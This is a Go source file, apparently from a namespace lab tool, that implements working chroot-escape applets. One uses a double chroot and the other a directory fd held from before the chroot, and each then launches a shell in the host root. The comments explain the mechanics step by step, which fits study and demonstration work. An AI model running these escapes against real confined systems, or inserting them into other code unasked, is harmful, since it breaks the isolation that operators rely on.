package rootfs

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// EscapeMethod names an escape applet.
type EscapeMethod string

// The escape applets.
const (
	// DoubleChrootEscape: chroot into a subdirectory without chdir, climb "..", chroot(".").
	DoubleChrootEscape EscapeMethod = "chroot"
	// HeldFDEscape: fchdir to a directory fd opened before the chroot, chroot(".").
	HeldFDEscape EscapeMethod = "fd"
)

// DefaultShell is what an escape runs where it lands when no command is given.
const DefaultShell = "/bin/sh"

// maxClimb bounds the ".." walk; no real tree is this deep.
const maxClimb = 4096

// ErrEscapeUsage is wrapped by ParseEscape for arguments it cannot use.
var ErrEscapeUsage = errors.New("usage: escape chroot [--] [COMMAND [ARG...]] | escape fd N [--] [COMMAND [ARG...]]")

// Escape is one parsed request to an escape applet.
type Escape struct {
	Method EscapeMethod
	// FD is the held directory fd, for HeldFDEscape.
	FD int
	// Argv is the command to run where the escape lands; empty means DefaultShell.
	Argv []string
}

// ParseEscape parses the arguments after "escape":
//
//	chroot [--] [COMMAND [ARG...]]
//	fd N [--] [COMMAND [ARG...]]
func ParseEscape(args []string) (Escape, error) {
	if len(args) == 0 {
		return Escape{}, fmt.Errorf("no escape method: %w", ErrEscapeUsage)
	}
	var e Escape
	rest := args[1:]
	switch EscapeMethod(args[0]) {
	case DoubleChrootEscape:
		e.Method = DoubleChrootEscape
	case HeldFDEscape:
		e.Method = HeldFDEscape
		if len(rest) == 0 {
			return Escape{}, fmt.Errorf("escape fd needs a file descriptor number: %w", ErrEscapeUsage)
		}
		fd, err := strconv.Atoi(rest[0])
		if err != nil || fd < 0 || fd > 1<<20 {
			return Escape{}, fmt.Errorf("escape fd: %q is not a file descriptor number: %w", rest[0], ErrEscapeUsage)
		}
		e.FD, rest = fd, rest[1:]
	default:
		return Escape{}, fmt.Errorf("unknown escape method %q: %w", args[0], ErrEscapeUsage)
	}
	if len(rest) > 0 && rest[0] == "--" {
		rest = rest[1:]
	}
	if len(rest) > 0 {
		e.Argv = append([]string(nil), rest...)
	}
	return e, nil
}

// RunEscape parses args (see ParseEscape), escapes, and executes the command where it
// lands. It returns only on failure.
func RunEscape(args []string) error {
	e, err := ParseEscape(args)
	if err != nil {
		return err
	}
	if e.Method == HeldFDEscape {
		return EscapeFD(e.FD, e.Argv)
	}
	return EscapeChroot(e.Argv)
}

// EscapeChroot leaves the current chroot with DoubleChroot and executes argv (DefaultShell
// when empty), found in the root it lands in, with the environment kept. It returns only
// on failure.
func EscapeChroot(argv []string) error {
	if err := DoubleChroot(); err != nil {
		return err
	}
	return execLanded(argv)
}

// EscapeFD leaves the current chroot through the directory fd with ChrootFD and executes
// argv (DefaultShell when empty) there, with the environment kept. It returns only on
// failure.
func EscapeFD(fd int, argv []string) error {
	if err := ChrootFD(fd); err != nil {
		return err
	}
	return execLanded(argv)
}

// DoubleChroot is the classic escape from a chroot, for a process with CAP_SYS_CHROOT.
// chroot(2) changes the root but not the working directory. So: make a scratch directory,
// chroot into it WITHOUT chdir — the working directory is now outside the root, where the
// kernel's ".." check (stop at the root) never matches — then chdir("..") until "." and
// ".." are the same directory (the top of the mount namespace), chroot(".") there and
// chdir("/"). The scratch directory is removed afterwards through a directory fd taken
// before the chroot.
//
// The root and working directory belong to the whole process: Go's threads share them
// (they are created with CLONE_FS), so this works from a multi-threaded Go program on any
// thread. The process must not run other code that depends on its root meanwhile.
func DoubleChroot() error {
	parent := "/tmp"
	if fi, err := os.Stat(parent); err != nil || !fi.IsDir() {
		parent = "/"
	}
	scratch, err := os.MkdirTemp(parent, "nslab-escape-")
	if err != nil {
		return fmt.Errorf("double chroot: %w", err)
	}
	// open(2) O_PATH: a handle on the scratch's parent that survives the root changes.
	parentFD, err := unix.Open(parent, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		os.Remove(scratch)
		return &os.PathError{Op: "open", Path: parent, Err: err}
	}
	defer unix.Close(parentFD)
	// chroot(2) without chdir(2): the working directory stays outside the new root.
	if err := unix.Chroot(scratch); err != nil {
		os.Remove(scratch)
		return &os.PathError{Op: "chroot", Path: scratch, Err: err}
	}
	if err := climbAndChroot(); err != nil {
		return err
	}
	// unlinkat(2) AT_REMOVEDIR: tidy up; the scratch directory did its job.
	_ = unix.Unlinkat(parentFD, filepath.Base(scratch), unix.AT_REMOVEDIR)
	return nil
}

// ChrootFD leaves the current chroot through fd, a directory opened outside it before the
// chroot (a shell's `exec 9</` before `chroot DIR`): fchdir(2) to it, climb ".." to the top
// as DoubleChroot does (so any directory outside will do), chroot(".") and chdir("/"). The
// fd is closed afterwards, so the command run next does not inherit it. Like DoubleChroot
// it changes the root of the whole process.
func ChrootFD(fd int) error {
	name := "fd " + strconv.Itoa(fd)
	var st unix.Stat_t
	// fstat(2): say plainly when the fd is not open or not a directory.
	if err := unix.Fstat(fd, &st); err != nil {
		return &os.PathError{Op: "fstat", Path: name, Err: err}
	}
	if st.Mode&unix.S_IFMT != unix.S_IFDIR {
		return &os.PathError{Op: "fchdir", Path: name, Err: unix.ENOTDIR}
	}
	// fchdir(2): the working directory becomes the held directory, outside the root.
	if err := unix.Fchdir(fd); err != nil {
		return &os.PathError{Op: "fchdir", Path: name, Err: err}
	}
	if err := climbAndChroot(); err != nil {
		return err
	}
	// close(2): a held fd on the outside must not leak into what runs next.
	if err := unix.Close(fd); err != nil {
		return &os.PathError{Op: "close", Path: name, Err: err}
	}
	return nil
}

// climbAndChroot walks ".." from the working directory until "." and ".." are the same
// directory, then makes it the root. From outside the current root that is the top of the
// mount namespace; from inside it, the root itself (no escape, nothing harmed).
func climbAndChroot() error {
	for i := 0; ; i++ {
		var here, up unix.Stat_t
		// stat(2) "." and "..": the same device and inode only at the top.
		if err := unix.Stat(".", &here); err != nil {
			return &os.PathError{Op: "stat", Path: ".", Err: err}
		}
		if err := unix.Stat("..", &up); err != nil {
			return &os.PathError{Op: "stat", Path: "..", Err: err}
		}
		if here.Dev == up.Dev && here.Ino == up.Ino {
			break
		}
		if i == maxClimb {
			return &os.PathError{Op: "chdir", Path: "..", Err: unix.ELOOP}
		}
		// chdir(2) "..": outside the root nothing stops the climb.
		if err := unix.Chdir(".."); err != nil {
			return &os.PathError{Op: "chdir", Path: "..", Err: err}
		}
	}
	// chroot(2) "." then chdir(2) "/": the top becomes the root, and we stand in it.
	if err := unix.Chroot("."); err != nil {
		return &os.PathError{Op: "chroot", Path: ".", Err: err}
	}
	if err := unix.Chdir("/"); err != nil {
		return &os.PathError{Op: "chdir", Path: "/", Err: err}
	}
	return nil
}

// execLanded executes argv (DefaultShell when empty) in the current root, looking a bare
// name up in $PATH as seen from there, with the environment kept.
func execLanded(argv []string) error {
	if len(argv) == 0 {
		argv = []string{DefaultShell}
	}
	path, err := lookPath(argv[0])
	if err != nil {
		return err
	}
	// execve(2): replaces this (possibly multi-threaded) process; the kernel ends the
	// other threads.
	if err := unix.Exec(path, argv, os.Environ()); err != nil {
		return &os.PathError{Op: "execve", Path: path, Err: err}
	}
	return nil
}

// lookPath finds name like execvp(3) does, in $PATH or a default path when $PATH is unset.
func lookPath(name string) (string, error) {
	if strings.Contains(name, "/") {
		return name, nil
	}
	dirs := os.Getenv("PATH")
	if dirs == "" {
		dirs = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
	}
	for _, dir := range filepath.SplitList(dirs) {
		if dir == "" {
			continue
		}
		if p := filepath.Join(dir, name); isExecutable(p) {
			return p, nil
		}
	}
	return "", &os.PathError{Op: "find command", Path: name, Err: os.ErrNotExist}
}
